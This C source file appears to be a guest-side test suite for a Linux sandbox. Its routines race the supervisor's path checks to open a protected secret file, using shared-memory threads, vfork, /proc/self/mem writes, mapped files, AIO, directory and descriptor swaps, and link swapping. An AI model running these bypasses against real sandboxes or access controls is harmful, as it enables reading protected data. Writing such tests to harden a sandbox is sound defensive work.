// Opens for reading go on by themselves where the caller is alone with all that they rest on. So here it looks alone, and is not.
#include "guest.h"
#include <linux/aio_abi.h>

static char *name;              // what is opened; anonymous and private unless said otherwise
static char above[PATH_MAX];    // the folder above the secret's
static char below[PATH_MAX];    // from there to the secret
static const char *secret_path;
static _Atomic bool *stop;

static void set_up(const char *secret) {
    enter_scratch();
    put("allowed", "public\n");
    secret_path = secret;
    stop = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    name = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(name, "allowed");
    snprintf(above, sizeof above, "%s", secret);
    for (int i = 0; i < 2; i++) *strrchr(above, '/') = 0;
    snprintf(below, sizeof below, "%s", secret + strlen(above) + 1);
}

static int finish(bool leaked) { *stop = true; leave_scratch(); return verdict(leaked); }

static bool open_often(void) {
    bool leaked = false;
    double since = now();
    for (int i = 0; !leaked && !overdue(i, since); i++) leaked = opens_secret(name);
    return leaked;
}

static void *rewrite(void *unused) {
    double since = now();
    while (!*stop && now() - since < 2 * SECONDS)
        for (int i = 0; i < 100; i++) { strcpy(name, secret_path); strcpy(name, "allowed"); }
    return unused;
}

static char stack[65536] __attribute__((aligned(16)));
static pid_t share(int (*body)(void *), unsigned long flags) {
    pid_t child = clone(body, stack + sizeof stack, (int)(flags | SIGCHLD), NULL);
    if (child < 0) die("clone");
    return child;
}
static int rewriter(void *unused) { rewrite(unused); _exit(0); }

int attack_race_clone_vm(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    pid_t child = share(rewriter, CLONE_VM);
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

// The thread that calls vfork(2) stands still; the others do not.
int attack_race_vfork_thread(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    pthread_t thread;
    start(&thread, rewrite, NULL);
    bool leaked = false;
    double since = now();
    while (!leaked && now() - since < SECONDS) {
        pid_t child = vfork();
        if (child == 0) {
            for (int i = 0; i < 2000; i++) if (opens_secret(name)) _exit(1);
            _exit(0);
        }
        int status = 0;
        waitpid(child, &status, 0);
        leaked = WIFEXITED(status) && WEXITSTATUS(status) == 1;
    }
    *stop = true;
    pthread_join(thread, NULL);
    return finish(leaked);
}

// A descriptor of one's own memory, which a child inherits.
int attack_race_inherited_mem(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    int memory = open("/proc/self/mem", O_RDWR);
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        double since = now();
        while (!*stop && now() - since < 2 * SECONDS) {
            if (pwrite(memory, secret_path, strlen(secret_path) + 1, (off_t)(uintptr_t)name) < 0) _exit(1);
            if (pwrite(memory, "allowed", 8, (off_t)(uintptr_t)name) < 0) _exit(1);
        }
        _exit(0);
    }
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

// Who has borrowed the memory shares it with somebody who stays.
int attack_race_vfork_clone(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    pid_t child = vfork();
    if (child == 0) {
        clone(rewriter, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    bool leaked = open_often();
    *stop = true;
    return finish(leaked);
}

// What is written into a file shows in private mappings of it.
int attack_race_mapped_file(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    char page[4096] = "allowed";
    int file = open("name", O_RDWR | O_CREAT, 0600);
    if (write(file, page, sizeof page) != sizeof page) die("write");
    name = mmap(NULL, sizeof page, PROT_READ, MAP_PRIVATE, file, 0);
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        double since = now();
        while (!*stop && now() - since < 2 * SECONDS) {
            if (pwrite(file, secret_path, strlen(secret_path) + 1, 0) < 0 || pwrite(file, "allowed", 8, 0) < 0) _exit(1);
        }
        _exit(0);
    }
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

// A file that may not be written to but by standard error, which leads there.
int attack_race_mapped_stream(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    char page[4096] = "allowed";
    int file = open(argument(argc, argv, 2), O_RDONLY | O_CLOEXEC);
    if (pwrite(2, page, sizeof page, 0) != sizeof page) die("pwrite");
    name = mmap(NULL, sizeof page, PROT_READ, MAP_PRIVATE, file, 0);
    if (name == MAP_FAILED) die("mmap");
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        double since = now();
        while (!*stop && now() - since < 2 * SECONDS) {
            if (pwrite(2, secret_path, strlen(secret_path) + 1, 0) < 0 || pwrite(2, "allowed", 8, 0) < 0) _exit(1);
        }
        _exit(0);
    }
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

/// `spill FILE CMD…`: CMD, with FILE for standard error.
int tool_spill(int argc, char **argv) {
    int file = open(argument(argc, argv, 1), O_RDWR | O_CREAT | O_TRUNC, 0644);
    if (file < 0 || dup2(file, 2) < 0 || close(file) < 0) die("spill");
    execvp(argument(argc, argv, 2), argv + 2);
    die(argv[2]);
}

// The kernel itself writes into the memory, when the disk has answered.
int attack_race_aio(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(page, secret_path);
    int file = open("name", O_RDWR | O_CREAT | O_DIRECT, 0600);
    if (file < 0 || write(file, page, 4096) != 4096) die("a file without a cache");
    aio_context_t context = 0;
    if (syscall(SYS_io_setup, 4, &context) < 0) die("io_setup");
    bool leaked = false;
    double since = now();
    for (int i = 0; !leaked && !overdue(i, since); i++) {
        strcpy(name, "allowed");
        struct iocb one = {.aio_lio_opcode = IOCB_CMD_PREAD, .aio_fildes = (unsigned)file, .aio_buf = (uintptr_t)name, .aio_nbytes = 4096};
        struct iocb *list[] = {&one};
        if (syscall(SYS_io_submit, context, 1, list) != 1) die("io_submit");
        for (int k = 0; k < 4 && !leaked; k++) leaked = opens_secret(name);
        struct io_event done;
        syscall(SYS_io_getevents, context, 1, 1, &done, NULL);
    }
    return finish(leaked);
}

static int folder_changer(void *unused) {
    double since = now();
    while (!*stop && now() - since < 2 * SECONDS) if (chdir(scratch) < 0 || chdir(above) < 0) sched_yield();
    (void)unused;
    _exit(0);
}
static void like_secret(void) {
    char copy[PATH_MAX];
    snprintf(copy, sizeof copy, "%s", below);
    *strchr(copy, '/') = 0;
    mkdir(copy, 0755), put(below, "public\n");
    strcpy(name, below);
}
int attack_race_clone_fs(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    like_secret();
    pid_t child = share(folder_changer, CLONE_FS);
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

static int folders[2], moving;
static int descriptor_swapper(void *unused) {
    double since = now();
    while (!*stop && now() - since < 2 * SECONDS) { dup2(folders[0], moving); dup2(folders[1], moving); }
    (void)unused;
    _exit(0);
}
int attack_race_clone_files(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    like_secret();
    folders[0] = open(".", O_PATH | O_DIRECTORY), folders[1] = open(above, O_PATH | O_DIRECTORY);
    moving = dup(folders[0]);
    pid_t child = share(descriptor_swapper, CLONE_FILES);
    bool leaked = false;
    double since = now();
    for (int i = 0; !leaked && !overdue(i, since); i++) leaked = shows_secret(openat(moving, name, O_RDONLY | O_CLOEXEC));
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

// A second name for a link, in the place of a file.
int attack_race_link_of_link(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    if (symlink(secret_path, "to-secret") < 0) die("symlink");
    put("point", "public\n");
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        double since = now();
        while (!*stop && now() - since < 2 * SECONDS) {
            link("to-secret", "fresh"), rename("fresh", "point");
            unlink("point"), link("allowed", "point");
            unlink("point"), put("point", "public\n");
        }
        _exit(0);
    }
    strcpy(name, "point");
    bool leaked = open_often();
    *stop = true;
    waitpid(child, NULL, 0);
    return finish(leaked);
}

// `/proc/self` is who looks.
int attack_link_to_own_proc(int argc, char **argv) {
    set_up(argument(argc, argv, 1));
    char way[64], path[3 * PATH_MAX];
    int folder = open(above, O_PATH | O_DIRECTORY);
    snprintf(way, sizeof way, "/proc/self/fd/%d", folder);
    if (symlink("/proc/self/cwd", "cwd") < 0 || symlink(way, "fd") < 0) die("symlink");
    char copy[PATH_MAX];
    snprintf(copy, sizeof copy, "%s", below);
    if (chdir(above) < 0) die("chdir");
    bool leaked = false;
    for (int i = 0; !leaked && i < 200; i++) {
        snprintf(path, sizeof path, "%s/%s/%s", scratch, i % 2 ? "cwd" : "fd", copy);
        leaked = opens_secret(path);
    }
    if (chdir(scratch) < 0) die("chdir");
    return finish(leaked);
}
